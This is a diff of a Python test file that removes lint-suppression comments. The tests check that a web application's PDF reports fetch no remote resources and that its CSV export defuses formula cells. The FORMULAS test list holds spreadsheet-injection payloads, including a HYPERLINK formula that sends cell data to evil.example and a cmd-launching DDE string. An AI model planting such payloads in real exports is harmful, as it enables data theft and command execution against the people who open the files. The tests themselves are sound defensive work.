@@ -35,7 +35,7 @@ def recorder() -> Iterator[SimpleNamespace]:
     )
 
     class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # noqa: N802 - http.server's name
+        def do_GET(self) -> None:  # http.server's name
             hits.append(self.path)
             self.send_response(200)
             self.send_header("Content-Type", "image/png" if self.path.endswith(".png") else "text/css")
@@ -70,7 +70,7 @@ def _pdf_text(pdf: bytes) -> str:
 
 @pytest.mark.slow
 def test_the_report_over_hostile_drafts_shows_them_as_text_and_fetches_nothing(
-    db_session, make_user, make_account, make_inbound, checker, recorder  # noqa: ANN001
+    db_session, make_user, make_account, make_inbound, checker, recorder
 ) -> None:
     from reviewer.drafting.services import create_draft
     from reviewer.reports.data import build_report
@@ -96,7 +96,7 @@ def test_the_report_over_hostile_drafts_shows_them_as_text_and_fetches_nothing(
         assert shown in text, f"not shown as text in the PDF: {shown!r}"
 
 
-def test_raw_markup_reaching_weasyprint_reads_no_file_and_calls_no_host(recorder, tmp_path) -> None:  # noqa: ANN001
+def test_raw_markup_reaching_weasyprint_reads_no_file_and_calls_no_host(recorder, tmp_path) -> None:
     """The locked fetcher, proven: with the same markup the default fetcher calls the server; the locked one does not."""
     from weasyprint import CSS, HTML
 
@@ -123,7 +123,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+1+cmd|' /C cal
             "\t=1+1", "\r=1+1"]
 
 
-def test_the_web_csv_export_defuses_every_formula_cell(secure_app, make_user, web_as, db_session) -> None:  # noqa: ANN001
+def test_the_web_csv_export_defuses_every_formula_cell(secure_app, make_user, web_as, db_session) -> None:
     """Actor names and subjects are the cells a value can start; each formula lead is defused and the value kept."""
     from reviewer.audit import record
 
